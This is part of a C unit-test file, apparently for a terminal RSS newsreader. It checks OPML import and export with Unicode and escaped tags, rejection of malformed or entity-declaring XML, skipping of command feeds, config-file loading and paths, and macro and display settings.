	assert_int_equal(l->v[0].ntags, 2);
	assert_string_equal(l->v[0].tags[0], "Tech");
	assert_string_equal(l->v[0].tags[1], "Unicode");
	assert_int_equal(l->v[0].line, 7);
	assert_string_equal(l->v[1].title, "Terminal Notes");
	assert_int_equal(l->v[1].ntags, 3);
	assert_string_equal(l->v[1].tags[1], "linux");
	assert_string_equal(l->v[1].tags[2], "tools/cli");
	assert_string_equal(l->v[2].url, "https://example.org/ar.xml");	/* xmlURL */
	assert_string_equal(l->v[2].title, "نبض");
	assert_string_equal(l->v[2].tags[0], "عربي");
	assert_null(l->v[3].title);	/* its text is only its URL */
	assert_string_equal(l->v[4].url, "http://example.com/top.rss");
	assert_int_equal(l->v[4].ntags, 0);
	assert_int_equal(d.n, 2);
	char *w0 = xasprintf("%s: line 15: exec: feeds run a command and are never imported "
	    "from OPML; add the line to the urls file yourself if you trust it (outline "
	    "skipped)", path);
	char *w1 = xasprintf("%s: line 16: feed 'https://example.org/ar.xml' is listed twice "
	    "(outline skipped)", path);
	assert_string_equal(d.v[0].msg, w0);
	assert_string_equal(d.v[1].msg, w1);
	free(w0);
	free(w1);
	diag_list_clear(&d);
	urls_list_free(&l);
	free(path);
}

static void
assert_opml_error(const char *doc, const char *expected)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *err = NULL;

	assert_int_equal(opml_parse("x.opml", doc, strlen(doc), &l, &d, &err), -1);
	assert_null(l);
	assert_string_equal(err, expected);
	free(err);
	diag_list_clear(&d);
}

static void
test_opml_errors(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct urls_list *l;
	char *path = fixture("broken.opml"), *err = NULL, *want;
	(void)state;

	assert_int_equal(opml_parse_file(path, &l, &d, &err), -1);
	want = xasprintf("%s: line 6: Opening and ending tag mismatch: outline line 5 and body",
	    path);
	assert_string_equal(err, want);
	free(want);
	xfree(&err);
	assert_int_equal(opml_parse_file("/nonexistent.opml", &l, &d, &err), -1);
	assert_string_equal(err, "/nonexistent.opml: No such file or directory");
	xfree(&err);
	assert_opml_error("<?xml version=\"1.0\"?>\n<rss version=\"2.0\"/>\n",
	    "x.opml: line 2: not an OPML document (the root element is 'rss')");
	assert_opml_error("<opml version=\"2.0\">\n<head/>\n</opml>\n",
	    "x.opml: line 1: not an OPML document (no body element)");
	assert_opml_error("", "x.opml: line 1: Document is empty");
	assert_opml_error("<!DOCTYPE opml [\n<!ENTITY a \"aaaa\">\n]>\n<opml><body>"
	    "<outline xmlUrl=\"http://x/&a;\"/></body></opml>\n",
	    "x.opml: line 1: entity declarations are not allowed");
	free(path);
}

static void
test_opml_roundtrip(void **state)
{
	const char *t1[] = { "عربي", "news & views" };
	const char *t2[] = { "a<b>", "\"q\"" };
	/* OPML categories are comma-separated: a tag's ',' (and '%') is escaped */
	const char *t3[] = { "hand-written, mixed", "100%", "%2C", "a,,b" };
	struct urls_list *l = urls_list_new(), *back;
	struct diag_list d = DIAG_LIST_INIT;
	char *doc, *err = NULL;
	(void)state;

	urls_list_add(l, "https://example.org/ar.xml?x=1&y=2", t1, 2, "نبض <التقنية> & \"كل\"", 0);
	urls_list_add(l, "http://example.com/plain.rss", NULL, 0, NULL, 0);
	urls_list_add(l, "file:///tmp/f.xml", t2, 2, "  Spaced  title", 0);
	/* U+FFFF is valid UTF-8 but no XML character: exported as U+FFFD */
	urls_list_add(l, "https://example.net/c.xml", t3, 4, "non\xEF\xBF\xBF" "char", 0);
	doc = opml_export(l, NULL, 1796299200);	/* 2026-12-03 12:00:00 UTC */
	assert_non_null(strstr(doc, "<opml version=\"2.0\">"));
	assert_non_null(strstr(doc, "<dateCreated>Thu, 03 Dec 2026 12:00:00 GMT</dateCreated>"));
	assert_non_null(strstr(doc, "<title>newsreader feeds</title>"));
	assert_non_null(strstr(doc, "xmlUrl=\"https://example.org/ar.xml?x=1&amp;y=2\""));
	/* Tags are nested folders, not a category attribute. */
	assert_null(strstr(doc, "category="));
	assert_non_null(strstr(doc, "<outline text=\"عربي\" title=\"عربي\">\n"
	    "      <outline text=\"news &amp; views\" title=\"news &amp; views\">\n"
	    "        <outline type=\"rss\" text=\"نبض"));
	assert_non_null(strstr(doc, "<outline type=\"rss\" text=\"http://example.com/plain.rss\" "
	    "xmlUrl=\"http://example.com/plain.rss\"/>"));
	assert_non_null(strstr(doc, "<outline text=\"hand-written, mixed\" "));
	assert_non_null(strstr(doc, "<outline text=\"a,,b\" title=\"a,,b\">"));
	assert_non_null(strstr(doc, "title=\"non\xEF\xBF\xBD" "char\""));
	assert_null(strstr(doc, "\xEF\xBF\xBF"));
	assert_int_equal(opml_parse("export", doc, strlen(doc), &back, &d, &err), 0);
	assert_null(err);
	assert_int_equal(d.n, 0);
	assert_int_equal(back->n, 4);
	for (size_t i = 0; i < 4; i++) {
		assert_string_equal(back->v[i].url, l->v[i].url);
		if (l->v[i].title == NULL)
			assert_null(back->v[i].title);
		else if (i == 2)	/* import trims titles */
			assert_string_equal(back->v[i].title, "Spaced  title");
		else if (i == 3)
			assert_string_equal(back->v[i].title, "non\xEF\xBF\xBD" "char");
		else
			assert_string_equal(back->v[i].title, l->v[i].title);
		assert_int_equal(back->v[i].ntags, l->v[i].ntags);
		for (size_t j = 0; j < l->v[i].ntags; j++)
			assert_string_equal(back->v[i].tags[j], l->v[i].tags[j]);
	}
	free(doc);
	urls_list_free(&back);

	/* What the cache knows: a title for the feed the urls file leaves
	 * untitled (not over the user's own), and the site's link. */
	struct opml_known known[4] = {
		{ "Document title", "https://example.org/" },
		{ "Plain feed", "http://example.com/" },
		{ NULL, NULL }, { "", NULL },
	};
	doc = opml_export(l, known, 1796299200);
	assert_non_null(strstr(doc, "<outline type=\"rss\" text=\"Plain feed\" title=\"Plain feed\" "
	    "xmlUrl=\"http://example.com/plain.rss\" htmlUrl=\"http://example.com/\"/>"));
	assert_null(strstr(doc, "Document title"));
	assert_non_null(strstr(doc, "htmlUrl=\"https://example.org/\""));
	assert_int_equal(opml_parse("export", doc, strlen(doc), &back, &d, &err), 0);
	assert_string_equal(back->v[1].title, "Plain feed");
	free(doc);
	urls_list_free(&back);
	urls_list_free(&l);
}

static char *
make_tmpdir(void)
{
	char tmpl[] = "/tmp/nr-config-test.XXXXXX";
	assert_non_null(mkdtemp(tmpl));
	return xstrdup(tmpl);
}

static void
write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void
test_load_all(void **state)
{
	struct cli_globals g = { 0 };
	struct diag_list d = DIAG_LIST_INIT;
	struct app_config *a;
	char *tmp = make_tmpdir(), *p, *cache;
	char *data = xasprintf("%s/data", getenv("NR_SRCDIR") ? getenv("NR_SRCDIR") : ".");
	(void)state;

	setenv("XDG_CONFIG_HOME", tmp, 1);
	setenv("NR_DATA_DIR", data, 1);
	cache = xasprintf("%s/cache.db", tmp);
	g.cache_path = cache;

	/* Nothing configured: defaults, the demo feeds and the demo market. */
	assert_int_equal(config_load_all(&g, &a, &d), 0);
	assert_int_equal(d.n, 0);
	assert_true(a->using_demo);
	assert_true(a->urls->n >= 3);
	p = xasprintf("%s/demo/urls", data);
	assert_string_equal(a->urls_path, p);
	free(p);
	p = xasprintf("%s/newsreader/config", tmp);
	assert_string_equal(a->config_path, p);
	free(p);
	assert_string_equal(a->cache_path, cache);
	assert_string_equal(a->data_dir, data);
	assert_int_equal(a->config->nmarket_sources, 1);
	p = xasprintf("file://%s/demo/market.json", data);
	assert_string_equal(a->config->market_sources[0].url, p);
	free(p);
	app_config_free(&a);

	/* The user's own files. */
	p = xasprintf("%s/newsreader", tmp);
	assert_int_equal(mkdir(p, 0700), 0);
	free(p);
	p = xasprintf("%s/newsreader/urls", tmp);
	write_file(p, "https://example.org/a.xml\nftp://example.org/x\n");
	free(p);
	p = xasprintf("%s/newsreader/config", tmp);
	write_file(p, "market-interval 7\n");
	assert_int_equal(config_load_all(&g, &a, &d), 0);
	assert_false(a->using_demo);
	assert_int_equal(a->urls->n, 1);
	assert_int_equal(a->config->market_interval, 7);
	assert_int_equal(a->config->nmarket_sources, 0);
	assert_int_equal(diag_count(&d, DIAG_WARNING), 1);
	app_config_free(&a);
	diag_list_clear(&d);

	/* Errors in both files are all reported. */
	write_file(p, "bidi x\nfoo 1\n");
	g.urls_path = "/nonexistent/urls";
	assert_int_equal(config_load_all(&g, &a, &d), -1);
	assert_null(a);
	assert_int_equal(d.n, 3);
	assert_string_equal(d.v[2].msg, "/nonexistent/urls: No such file or directory");
	diag_list_clear(&d);

	/* A missing --config file is an error, a missing default one is not. */
	g.urls_path = NULL;
	g.config_path = "/nonexistent/config";
	assert_int_equal(config_load_all(&g, &a, &d), -1);
	assert_string_equal(d.v[0].msg, "/nonexistent/config: No such file or directory");
	diag_list_clear(&d);
	unlink(p);
	free(p);

	p = xasprintf("%s/newsreader/urls", tmp);
	unlink(p);
	free(p);
	p = xasprintf("%s/newsreader", tmp);
	rmdir(p);
	free(p);
	rmdir(tmp);
	free(tmp);
	free(cache);
	free(data);
}

static void
test_paths(void **state)
{
	char *p;
	(void)state;

	setenv("XDG_CONFIG_HOME", "/x/conf", 1);
	setenv("XDG_STATE_HOME", "relative/ignored", 1);
	setenv("HOME", "/home/u", 1);
	p = paths_config_file(NULL);
	assert_string_equal(p, "/x/conf/newsreader/config");
	free(p);
	p = paths_urls_file("given");
	assert_string_equal(p, "given");
	free(p);
	p = paths_log_file();
	assert_string_equal(p, "/home/u/.local/state/newsreader/log");
	free(p);
	unsetenv("XDG_CONFIG_HOME");
	p = paths_urls_file(NULL);
	assert_string_equal(p, "/home/u/.config/newsreader/urls");
	free(p);
	setenv("NR_DATA_DIR", "/d", 1);
	p = paths_data_dir();
	assert_string_equal(p, "/d");
	free(p);
	unsetenv("NR_DATA_DIR");
	p = paths_data_dir();
	assert_true(strcmp(p, NR_DATADIR) == 0 || strcmp(p, NR_SRCDATADIR) == 0);
	free(p);
}


/* Issue 13: `direction [FEED-URL-PREFIX] auto|ltr|rtl` (the last matching
 * line wins) and `text-width N`. */
static void
test_direction_and_text_width(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c = parse_str("direction rtl\n"
	    "direction https://en.example/ ltr\n"
	    "direction https://en.example/ar/ auto\n"
	    "text-width 72\n", &d);

	(void)state;
	assert_int_equal(d.n, 0);
	assert_int_equal(c->text_width, 72);
	assert_int_equal(config_feed_direction(c, "https://ar.example/rss"), CONFIG_DIR_RTL);
	assert_int_equal(config_feed_direction(c, "https://en.example/rss"), CONFIG_DIR_LTR);
	assert_int_equal(config_feed_direction(c, "https://en.example/ar/rss"), CONFIG_DIR_AUTO);
	assert_int_equal(config_feed_direction(c, NULL), CONFIG_DIR_RTL);
	config_free(&c);
	c = parse_str("", &d);
	assert_int_equal(c->text_width, 0);
	assert_int_equal(config_feed_direction(c, "https://ar.example/rss"), CONFIG_DIR_AUTO);
	config_free(&c);
	assert_error("direction up\n", "t.conf:1: bad value 'up' for direction "
	    "(expected [FEED-URL-PREFIX] auto|ltr|rtl)");
	assert_error("text-width -3\n", "t.conf:1: bad value '-3' for text-width "
	    "(expected a number from 0 to 10000)");
}

/* macro lines: newsboat's ';' between actions, glued or spaced; errors
 * with the line; the new settings with their defaults. */
static void
test_macros_and_cleanup_settings(void **state)
{
	struct diag_list d = DIAG_LIST_INIT;
	struct config *c;
	(void)state;

	c = parse_str("", &d);
	assert_int_equal(c->show_read_feeds, 1);
	assert_int_equal(c->show_read_articles, 1);
	assert_int_equal(c->max_items, 0);
	assert_int_equal(c->keep_articles_days, 0);
	assert_int_equal(c->notify_osc, CONFIG_OSC_OFF);
	assert_null(c->notify_program);
	config_free(&c);

	c = parse_str("macro q next ; quit\nmacro x next; quit ;next\nmacro j quit\n"
	    "show-read-feeds no\nshow-read-articles no\nmax-items 50\n"
	    "keep-articles-days 30\nnotify-osc 777\n"
	    "notify-program \"notify-send 'أخبار جديدة' %n\"\n", &d);
	assert_int_equal(d.n, 0);
	assert_int_equal(c->nmacros, 3);
	assert_string_equal(c->macros[0].key, "q");
	assert_int_equal(c->macros[0].nactions, 2);
	assert_string_equal(c->macros[0].actions[0][0], "next");
	assert_null(c->macros[0].actions[0][1]);
	assert_string_equal(c->macros[0].actions[1][0], "quit");
	assert_int_equal(c->macros[1].nactions, 3);
	assert_string_equal(c->macros[1].actions[0][0], "next");
	assert_string_equal(c->macros[1].actions[1][0], "quit");
	assert_string_equal(c->macros[1].actions[2][0], "next");
	assert_int_equal(c->macros[2].nactions, 1);
	assert_int_equal(c->macros[2].line, 3);
	assert_int_equal(c->show_read_feeds, 0);
	assert_int_equal(c->show_read_articles, 0);
	assert_int_equal(c->max_items, 50);
	assert_int_equal(c->keep_articles_days, 30);
	assert_int_equal(c->notify_osc, CONFIG_OSC_777);
	assert_string_equal(c->notify_program[1], "أخبار جديدة");
	assert_string_equal(c->notify_program[2], "%n");
	assert_null(c->notify_program[3]);
	/* Unknown actions, an argument where none is taken, a bad key. */
	assert_int_equal(config_check_macros(c, key_ok, action_ok, NULL, NULL, &d), 0);
	config_free(&c);

	c = parse_str("macro a next ; reload-everything\nmacro b quit now\n"
	    "macro F13 next\n", &d);
	assert_int_equal(d.n, 0);
	assert_int_equal(config_check_macros(c, key_ok, action_ok, NULL, NULL, &d), 3);
	assert_string_equal(d.v[0].msg, "t.conf:1: unknown action 'reload-everything' in macro a");
	assert_string_equal(d.v[1].msg, "t.conf:2: action 'quit' takes no argument (in macro b)");
	assert_string_equal(d.v[2].msg, "t.conf:3: unknown key 'F13'");
	diag_list_clear(&d);
	config_free(&c);

	c = parse_str("macro a\nmacro b ; next\nmacro c next ; ; quit\nmax-items -1\n"
	    "notify-osc 52\n", &d);
	assert_int_equal(d.n, 5);
	assert_string_equal(d.v[0].msg, "t.conf:1: missing value for macro "
	    "(expected KEY ACTION [; ACTION...])");
	assert_string_equal(d.v[1].msg, "t.conf:2: macro b: empty action "
	    "(expected ACTION between ';')");
	assert_string_equal(d.v[2].msg, "t.conf:3: macro c: empty action "
	    "(expected ACTION between ';')");
	assert_string_equal(d.v[4].msg, "t.conf:5: bad value '52' for notify-osc "
	    "(expected off, 9 or 777)");
	assert_int_equal(c->nmacros, 0);
	diag_list_clear(&d);
	config_free(&c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_option_table),
		cmocka_unit_test(test_defaults),
		cmocka_unit_test(test_good_file),
		cmocka_unit_test(test_error_file),
		cmocka_unit_test(test_single_errors),
		cmocka_unit_test(test_comment_identity),
		cmocka_unit_test(test_quotes_and_comments),
		cmocka_unit_test(test_missing_file),
		cmocka_unit_test(test_check_hooks),
		cmocka_unit_test(test_macros_and_cleanup_settings),
		cmocka_unit_test(test_split_command),
		cmocka_unit_test(test_urls_file),
		cmocka_unit_test(test_urls_query),
		cmocka_unit_test(test_urls_datadir),
		cmocka_unit_test(test_urls_sanitized),
		cmocka_unit_test(test_bundled_demo_list),
		cmocka_unit_test(test_urls_format_roundtrip),
		cmocka_unit_test(test_script_feed_parse),
		cmocka_unit_test(test_urls_scripts_refused_when_writable),
		cmocka_unit_test(test_config_commands_refused_when_writable),
		cmocka_unit_test(test_opml_refuses_scripts),
		cmocka_unit_test(test_opml_nested),
		cmocka_unit_test(test_opml_errors),
		cmocka_unit_test(test_opml_roundtrip),
		cmocka_unit_test(test_load_all),
		cmocka_unit_test(test_paths),
		cmocka_unit_test(test_direction_and_text_width),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
